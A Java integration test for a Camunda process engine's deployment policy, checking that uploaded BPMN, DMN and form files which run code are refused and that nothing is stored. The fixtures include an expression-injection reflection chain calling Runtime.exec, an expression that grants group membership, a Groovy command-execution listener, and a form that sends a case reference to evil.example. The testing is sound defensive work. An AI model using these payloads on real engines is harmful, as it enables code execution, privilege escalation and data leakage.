// SPDX-License-Identifier: EUPL-1.2
package de.ksi.deployment;

import static de.ksi.deployment.Deployments.process;
import static de.ksi.deployment.Deployments.shipped;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.ksi.network.Groups;
import de.ksi.testing.KsiIntegrationTest;
import java.io.File;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.ProcessEngineException;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.engine.impl.el.StartProcessVariableScope;
import org.camunda.bpm.engine.repository.ProcessDefinition;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * A process owner deploys from the Modeler over /engine-rest: every construct that runs code of
 * their choosing is refused with a 400 naming resource, element and rule, and nothing of it is
 * stored or run; every model we ship and the changes a process owner realistically makes still
 * deploy.
 */
@KsiIntegrationTest
class DeploymentPolicyIT {

  private static final Path MARKER =
      Path.of(System.getProperty("java.io.tmpdir"), "ksi-deployment-policy-marker");
  private static final String GRANT =
      "${identityService.createMembership('prozess-1','koordinierungsstelle')}";
  private static final String EXEC =
      "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')"
          + ".invoke(null).exec('touch "
          + MARKER
          + "')}";
  private static final String START_TO_TASK =
      """
      <bpmn:startEvent id="StartEvent_Go"/>
      <bpmn:sequenceFlow id="Flow_Go" sourceRef="StartEvent_Go" targetRef="ServiceTask_Do"/>
      """;

  @LocalServerPort int port;
  @Autowired ProcessEngine engine;

  private Deployments deployments;

  @BeforeEach
  void client() {
    deployments = new Deployments(port, engine.getName());
  }

  static Stream<Arguments> forbidden() {
    return Stream.of(
        Arguments.of(
            "membership by expression",
            "it-grant",
            "ServiceTask_Do",
            "EXPRESSION",
            Map.of(
                "grant.bpmn",
                process(
                    "it-grant",
                    START_TO_TASK
                        + "<bpmn:serviceTask id=\"ServiceTask_Do\" camunda:expression=\""
                        + GRANT
                        + "\"/>"))),
        Arguments.of(
            "reflection chain",
            "it-exec",
            "ServiceTask_Do",
            "EXPRESSION",
            Map.of(
                "exec.bpmn",
                process(
                    "it-exec",
                    START_TO_TASK
                        + "<bpmn:serviceTask id=\"ServiceTask_Do\" camunda:expression=\""
                        + EXEC
                        + "\"/>"))),
        Arguments.of(
            "bean as delegate",
            "it-bean",
            "ServiceTask_Do",
            "DELEGATE",
            Map.of(
                "bean.bpmn",
                process(
                    "it-bean",
                    START_TO_TASK
                        + "<bpmn:serviceTask id=\"ServiceTask_Do\" camunda:delegateExpression=\"${identityService}\"/>"))),
        Arguments.of(
            "class outside de.ksi",
            "it-class",
            "ServiceTask_Do",
            "JAVA_CLASS",
            Map.of(
                "class.bpmn",
                process(
                    "it-class",
                    START_TO_TASK
                        + "<bpmn:serviceTask id=\"ServiceTask_Do\" camunda:class=\"org.example.Evil\"/>"))),
        Arguments.of(
            "script task",
            "it-script",
            "ScriptTask_Do",
            "SCRIPT",
            Map.of(
                "script.bpmn",
                process(
                    "it-script",
                    """
                <bpmn:startEvent id="StartEvent_Go"/>
                <bpmn:sequenceFlow id="Flow_Go" sourceRef="StartEvent_Go" targetRef="ScriptTask_Do"/>
                <bpmn:scriptTask id="ScriptTask_Do" scriptFormat="javascript"><bpmn:script>java.lang.Runtime.getRuntime()</bpmn:script></bpmn:scriptTask>
                """))),
        Arguments.of(
            "script listener",
            "it-listener",
            "StartEvent_Listened",
            "SCRIPT",
            Map.of(
                "listener.bpmn",
                process(
                    "it-listener",
                    """
                <bpmn:startEvent id="StartEvent_Listened"><bpmn:extensionElements><camunda:executionListener event="start">
                <camunda:script scriptFormat="groovy">'touch /tmp/x'.execute()</camunda:script>
                </camunda:executionListener></bpmn:extensionElements></bpmn:startEvent>
                """))),
        Arguments.of(
            "script condition",
            "it-condition",
            "Flow_Scripted",
            "SCRIPT",
            Map.of(
                "condition.bpmn",
                process(
                    "it-condition",
                    """
                <bpmn:startEvent id="StartEvent_Go"/>
                <bpmn:sequenceFlow id="Flow_Scripted" sourceRef="StartEvent_Go" targetRef="EndEvent_Done">
                <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript">true</bpmn:conditionExpression>
                </bpmn:sequenceFlow><bpmn:endEvent id="EndEvent_Done"/>
                """))),
        Arguments.of(
            "timer start",
            "it-timer",
            "StartEvent_Now",
            "START_EVENT",
            Map.of(
                "timer.bpmn",
                process(
                    "it-timer",
                    """
                <bpmn:startEvent id="StartEvent_Now"><bpmn:timerEventDefinition>
                <bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT0S</bpmn:timeDuration>
                </bpmn:timerEventDefinition></bpmn:startEvent>
                """))),
        Arguments.of(
            "message start",
            "it-message",
            "StartEvent_Message",
            "START_EVENT",
            Map.of(
                "message.bpmn",
                process(
                    "it-message",
                    """
                <bpmn:startEvent id="StartEvent_Message"><bpmn:messageEventDefinition messageRef="Message_Start"/></bpmn:startEvent>
                """))),
        Arguments.of(
            "external task",
            "it-external",
            "ServiceTask_Do",
            "EXTERNAL_TASK",
            Map.of(
                "external.bpmn",
                process(
                    "it-external",
                    START_TO_TASK
                        + "<bpmn:serviceTask id=\"ServiceTask_Do\" camunda:type=\"external\" camunda:topic=\"evil\"/>"))),
        Arguments.of(
            "embedded HTML form",
            "it-html",
            "evil.html",
            "RESOURCE_TYPE",
            Map.of("evil.html", "<form><script>fetch('/engine-rest/user')</script></form>")),
        Arguments.of(
            "form that sends data out",
            "it-form",
            "Image_Out",
            "FORM",
            Map.of(
                "out.form",
                """
                {"id": "it-form-out", "type": "default", "components": [
                  {"id": "Image_Out", "type": "image", "source": "=\\"https://evil.example/\\" + caseReference"}]}
                """)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("forbidden")
  void refusesWhatRunsCodeAndStoresNothing(
      String attack, String key, String element, String rule, Map<String, String> files)
      throws Exception {
    long deploymentsBefore = engine.getRepositoryService().createDeploymentQuery().count();
    long jobsBefore = engine.getManagementService().createJobQuery().count();

    Deployments.Answer answer = deployments.deploy("prozess-1", attack, files);

    assertThat(answer.status()).as(answer.text()).isEqualTo(400);
    assertThat(answer.body().path("message").asText())
        .contains("'" + element + "'", "rule " + rule);
    nothingRan(deploymentsBefore, jobsBefore);
    assertThat(
            engine
                .getRepositoryService()
                .createProcessDefinitionQuery()
                .processDefinitionKey(key)
                .count())
        .isZero();
  }

  @Test
  void theModelerSeesTheElementInTheParseDetails() {
    Deployments.Answer answer =
        deployments.deploy(
            "prozess-1",
            "grant",
            Map.of(
                "grant.bpmn",
                process(
                    "it-grant2",
                    START_TO_TASK
                        + "<bpmn:serviceTask id=\"ServiceTask_Do\" camunda:expression=\""
                        + GRANT
                        + "\"/>")));

    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.body().path("type").asText()).isEqualTo("ParseException");
    assertThat(answer.body().at("/details/grant.bpmn/errors/0/mainElementId").asText())
        .isEqualTo("ServiceTask_Do");
    assertThat(answer.body().at("/details/grant.bpmn/errors/0/message").asText())
        .contains("rule EXPRESSION");
  }

  @Test
  void aNewVersionOfTheCalledDutiesProcessWithAForbiddenExpressionLeavesTheLatestVersionAsItWas()
      throws Exception {
    ProcessDefinition latest = latest("inobhutnahme-pflichten");
    long deploymentsBefore = engine.getRepositoryService().createDeploymentQuery().count();
    long jobsBefore = engine.getManagementService().createJobQuery().count();
    String evil =
        shipped("bpmn/inobhutnahme-pflichten.bpmn")
            .replace(
                "camunda:delegateExpression=\"${dutyDeadlinesDelegate}\"",
                "camunda:expression=\"" + GRANT + "\"");
    assertThat(evil).contains(GRANT);

    Deployments.Answer answer =
        deployments.deploy(
            "prozess-1", "Pflichten v2", Map.of("inobhutnahme-pflichten.bpmn", evil));

    assertThat(answer.status()).as(answer.text()).isEqualTo(400);
    assertThat(answer.body().path("message").asText())
        .contains("'Task_CalculateDeadlines'", "rule EXPRESSION");
    nothingRan(deploymentsBefore, jobsBefore);
    assertThat(latest("inobhutnahme-pflichten").getId()).isEqualTo(latest.getId());
  }

  @Test
  void aNewVersionOfTheDeadlinesTableInJuelLeavesTheLatestVersionAsItWas() throws Exception {
    String latest =
        engine
            .getRepositoryService()
            .createDecisionDefinitionQuery()
            .decisionDefinitionKey("escalation-deadlines")
            .latestVersion()
            .singleResult()
            .getId();
    long deploymentsBefore = engine.getRepositoryService().createDeploymentQuery().count();
    String juel =
        shipped("bpmn/escalation-deadlines.dmn")
            .replace(
                "<inputExpression id=\"InputExpression_Urgency\" typeRef=\"string\"><text>urgency</text>",
                "<inputExpression id=\"InputExpression_Urgency\" typeRef=\"string\" expressionLanguage=\"juel\"><text>"
                    + GRANT
                    + "</text>");
    assertThat(juel).contains("expressionLanguage=\"juel\"");

    Deployments.Answer answer =
        deployments.deploy("prozess-1", "Fristen v2", Map.of("escalation-deadlines.dmn", juel));

    assertThat(answer.status()).as(answer.text()).isEqualTo(400);
    assertThat(answer.body().path("message").asText())
        .contains("'InputExpression_Urgency'", "rule DMN_FEEL");
    nothingRan(deploymentsBefore, engine.getManagementService().createJobQuery().count());
    assertThat(
            engine
                .getRepositoryService()
                .createDecisionDefinitionQuery()
                .decisionDefinitionKey("escalation-deadlines")
                .latestVersion()
                .singleResult()
                .getId())
        .isEqualTo(latest);
  }

  @Test
  void everyModelWeShipDeploysAsItIs() {
    Map<String, String> files = new LinkedHashMap<>();
    for (String model :
        List.of(
            "inobhutnahme.bpmn",
            "inobhutnahme-platzsuche.bpmn",
            "inobhutnahme-pflichten.bpmn",
            "eligible-categories.dmn",
            "escalation-deadlines.dmn")) {
      files.put(model, renamed(shipped("bpmn/" + model)));
    }
    for (String form : new File("forms").list()) {
      files.put(form, renamed(shipped("forms/" + form)));
    }

    Deployments.Answer answer = deployments.deploy("prozess-1", "Alle Modelle (umbenannt)", files);

    assertThat(answer.status()).as(answer.text()).isEqualTo(200);
    assertThat(latest("it-inobhutnahme")).isNotNull();
    assertThat(latest("it-inobhutnahme-pflichten")).isNotNull();
  }

  @Test
  void aNewDeadlineANewConditionAndANewUserTaskWithAFormDeploy() {
    String duties =
        renamed(shipped("bpmn/inobhutnahme-pflichten.bpmn"))
            .replace(
                "name=\"guardianWithin\" value=\"P3D\"", "name=\"guardianWithin\" value=\"P2D\"");
    String deadlines =
        renamed(shipped("bpmn/escalation-deadlines.dmn")).replace("\"PT30M\"", "\"PT20M\"");
    String intake =
        renamed(shipped("bpmn/inobhutnahme.bpmn"))
            .replace(
                "${outcome == 'FOLLOW_UP'}",
                "${outcome == 'FOLLOW_UP' &amp;&amp; !empty followUpCategory}");
    assertThat(duties).contains("value=\"P2D\"");
    assertThat(intake).contains("!empty followUpCategory");
    String checkIn =
        process(
            "it-check-in",
            """
        <bpmn:startEvent id="StartEvent_Reported"/>
        <bpmn:sequenceFlow id="Flow_ToCheckIn" sourceRef="StartEvent_Reported" targetRef="Task_CheckIn"/>
        <bpmn:userTask id="Task_CheckIn" name="Ankunft bestätigen" camunda:formRef="it-form-check-in"
            camunda:formRefBinding="deployment" camunda:candidateGroups="${officeGroup}"
            camunda:dueDate="${dateTime().plusHours(2).toDate()}"/>
        <bpmn:sequenceFlow id="Flow_Arrived" sourceRef="Task_CheckIn" targetRef="Gateway_Arrived"/>
        <bpmn:exclusiveGateway id="Gateway_Arrived" default="Flow_NotArrived"/>
        <bpmn:sequenceFlow id="Flow_YesArrived" sourceRef="Gateway_Arrived" targetRef="EndEvent_Arrived">
          <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${arrived &amp;&amp; note != null}</bpmn:conditionExpression>
        </bpmn:sequenceFlow>
        <bpmn:sequenceFlow id="Flow_NotArrived" sourceRef="Gateway_Arrived" targetRef="EndEvent_Arrived"/>
        <bpmn:endEvent id="EndEvent_Arrived"/>
        """);
    String form =
        """
        {"id": "it-form-check-in", "type": "default", "schemaVersion": 16, "components": [
          {"id": "Text_Info", "type": "text", "text": "## Ankunft – Fall {{caseReference}}"},
          {"id": "Checkbox_Arrived", "type": "checkbox", "key": "arrived", "label": "Angekommen"},
          {"id": "Field_Note", "type": "textfield", "key": "note", "label": "Bemerkung",
           "conditional": {"hide": "=arrived = false"}}]}
        """;

    Deployments.Answer answer =
        deployments.deploy(
            "prozess-1",
            "Realistische Änderungen",
            Map.of(
                "inobhutnahme-pflichten.bpmn",
                duties,
                "escalation-deadlines.dmn",
                deadlines,
                "inobhutnahme.bpmn",
                intake,
                "check-in.bpmn",
                checkIn,
                "check-in.form",
                form));

    assertThat(answer.status()).as(answer.text()).isEqualTo(200);
    assertThat(latest("it-check-in")).isNotNull();
  }

  @Test
  void theEngineResolvesOnlyOurDelegatesEvenIfAModelGotPastThePolicy() {
    ProcessEngineConfigurationImpl configuration =
        (ProcessEngineConfigurationImpl) engine.getProcessEngineConfiguration();

    Object delegate =
        configuration
            .getCommandExecutorTxRequired()
            .execute(
                context ->
                    configuration
                        .getExpressionManager()
                        .createExpression("${placeHolds}")
                        .getValue(StartProcessVariableScope.getSharedInstance()));

    assertThat(delegate).isNotNull();
    for (String bean :
        List.of("${identityService}", "${runtimeService}", "${processEngine}", "${auditLog}")) {
      assertThatThrownBy(
              () ->
                  configuration
                      .getCommandExecutorTxRequired()
                      .execute(
                          context ->
                              configuration
                                  .getExpressionManager()
                                  .createExpression(bean)
                                  .getValue(StartProcessVariableScope.getSharedInstance())))
          .as(bean)
          .isInstanceOf(ProcessEngineException.class)
          .hasMessageContaining("Cannot resolve identifier");
    }
  }

  private void nothingRan(long deploymentsBefore, long jobsBefore) throws Exception {
    assertThat(engine.getRepositoryService().createDeploymentQuery().count())
        .isEqualTo(deploymentsBefore);
    assertThat(engine.getManagementService().createJobQuery().count()).isEqualTo(jobsBefore);
    assertThat(
            engine
                .getIdentityService()
                .createGroupQuery()
                .groupMember("prozess-1")
                .groupId(Groups.COORDINATORS)
                .count())
        .isZero();
    assertThat(Files.exists(MARKER)).isFalse();
  }

  private ProcessDefinition latest(String key) {
    return engine
        .getRepositoryService()
        .createProcessDefinitionQuery()
        .processDefinitionKey(key)
        .latestVersion()
        .singleResult();
  }

  /**
   * The shipped file with its process, decision and form ids prefixed, so that it does not become
   * their new version.
   */
  private static String renamed(String model) {
    return model
        .replace("\"inobhutnahme", "\"it-inobhutnahme")
        .replace("\"form-", "\"it-form-")
        .replace("\"pflichten-", "\"it-pflichten-")
        .replace("\"eligible-categories\"", "\"it-eligible-categories\"")
        .replace("\"escalation-deadlines\"", "\"it-escalation-deadlines\"");
  }
}
